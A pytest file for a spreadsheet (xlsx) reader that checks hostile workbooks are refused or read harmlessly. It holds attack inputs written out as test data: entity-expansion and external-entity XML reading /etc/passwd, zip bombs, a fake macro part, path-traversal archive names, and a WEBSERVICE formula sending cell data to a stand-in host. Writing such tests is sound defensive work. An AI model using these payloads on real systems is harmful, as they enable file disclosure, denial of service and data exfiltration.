"""Files made to do harm, real ones: bombs, entities, macros, paths. A sentence or a harmless reading, nothing else."""

import io
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kkb.core.errors import KkbError
from kkb.io.containers import xlsx as workbook
from tests.io.made import FILE, cells, read, saved, village, villages, xlsx

TABLE = cells(villages(3))
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
ENTITIES = {"tertawa": LAUGHS, "berkas lain": OUTSIDE, "utf-16": LAUGHS.decode("ascii").encode("utf-16")}


def repacked(changed: dict[str, bytes], level: int = 9) -> bytes:
    """A good workbook with parts changed or added."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx(TABLE))) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as new,
    ):
        for name in dict.fromkeys([*old.namelist(), *changed]):
            new.writestr(name, changed[name] if name in changed else old.read(name))
    return stream.getvalue()


def refusal(data: bytes, name: str = FILE) -> str:
    with pytest.raises(KkbError) as refused:
        read(data, name)
    return refused.value.key


def test_a_bomb_of_real_size_is_refused_without_being_unpacked():
    part = bytes(workbook.MAX_UNPACKED + 1)
    bomb = repacked({"xl/worksheets/sheet2.xml": part}, level=1)
    del part
    assert len(bomb) < workbook.MAX_UNPACKED // 100
    tracemalloc.start()
    try:
        assert refusal(bomb) == "berkas.bom"
        assert tracemalloc.get_traced_memory()[1] < 20 * 2**20
    finally:
        tracemalloc.stop()


def test_formats_down_to_the_last_row_are_no_bomb(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(workbook, "MAX_UNPACKED", 100_000)
    monkeypatch.setattr(workbook, "MAX_FORMATTED", 10_000_000)
    blank = "".join(f'<c r="{column}{{row}}" s="1"/>' for column in "ABCDEF")
    rows = "".join(f'<row r="{row}" s="1">{blank.format(row=row)}</row>' for row in range(7, 20_000))
    with zipfile.ZipFile(io.BytesIO(xlsx(TABLE))) as archive:
        part = archive.read("xl/worksheets/sheet1.xml").replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    data = repacked({"xl/worksheets/sheet1.xml": part})
    assert len(read(data).rows) == 3
    monkeypatch.setattr(workbook, "MAX_FORMATTED", 1_000_000)
    assert refusal(data) == "berkas.bom"


def test_a_part_that_lies_about_its_size_gives_no_more_than_it_said():
    data = bytearray(repacked({"xl/sharedStrings.xml": b"<sst>" + b" " * 5_000_000 + b"</sst>"}))
    size = (5_000_011).to_bytes(4, "little")
    assert data.count(size) >= 1
    assert refusal(bytes(data.replace(size, (100).to_bytes(4, "little")))) == "berkas.rusak"


@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"]
)
@pytest.mark.parametrize("kind", ENTITIES)
def test_entities_are_refused_in_any_part(part: str, kind: str):
    assert refusal(repacked({part: ENTITIES[kind]})) == "berkas.rusak"


def test_macros_are_never_looked_at_and_the_table_is_read():
    data = repacked({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Shell cmd.exe", "xl/activeX/activeX1.bin": b"\0" * 99})
    assert len(read(data, FILE.replace("xlsx", "xlsm")).rows) == 3


def test_paths_in_an_archive_write_nothing_anywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    inner = tmp_path / "dalam" / "sini"
    inner.mkdir(parents=True)
    monkeypatch.chdir(inner)
    paths = ("../../jahat.txt", "/tmp/kkb-jahat.txt", "..\\..\\jahat.txt", "C:\\jahat.txt")
    assert len(read(repacked(dict.fromkeys(paths, b"x"))).rows) == 3
    assert [path.name for path in tmp_path.rglob("*")] == ["dalam", "sini"]
    assert not Path("/tmp/kkb-jahat.txt").exists()


def test_formulas_that_call_out_are_neither_run_nor_quoted():
    book = openpyxl.Workbook()
    for row in cells([*villages(2), village("WIDODO", Kampung_KB='=WEBSERVICE("http://x.test/"&A1)')]):
        book.active.append(row)
    with pytest.raises(KkbError) as refusal:
        read(saved(book))
    assert refusal.value.key == "berkas.rumus"
    assert "x.test" not in str(refusal.value)


def test_columns_with_personal_data_leave_no_trace_in_rows_or_findings():
    headings = [*TABLE[0], "Nama PKB", "NIP", "No HP"]
    rows = [[*row, "Budi Santoso", "198001012005011001", "081234567890"] for row in TABLE[1:]]
    reading = read(xlsx([headings, *rows]))
    kept = reading.rows.to_csv() + repr(reading.issues)
    assert not any(private in kept for private in ("Budi", "198001", "081234"))
    assert "kolom_pribadi" in {issue.code for issue in reading.issues}
